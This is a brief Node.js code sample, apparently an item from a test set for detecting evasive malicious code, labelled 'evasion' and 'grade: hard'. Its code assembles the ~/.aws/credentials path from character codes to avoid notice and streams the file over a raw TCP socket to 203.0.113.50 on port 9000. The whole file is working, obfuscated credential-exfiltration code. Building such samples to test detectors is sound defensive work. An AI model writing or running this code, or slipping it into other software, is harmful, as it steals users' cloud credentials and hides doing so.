// evasion: ~/.aws/credentials path built from char codes, streamed into a raw TCP socket
// grade: hard; does: credentials
const fs = require('fs');
const os = require('os');
const path = require('path');
const net = require('net');
const dir = String.fromCharCode(46) + [97, 119, 115].map((c) => String.fromCharCode(c)).join('');
const file = path.resolve(os.homedir(), dir, 'cred' + 'entials');
const sock = net.connect(9000, '203.0.113.50', () => {
  fs.createReadStream(file).pipe(sock);
});
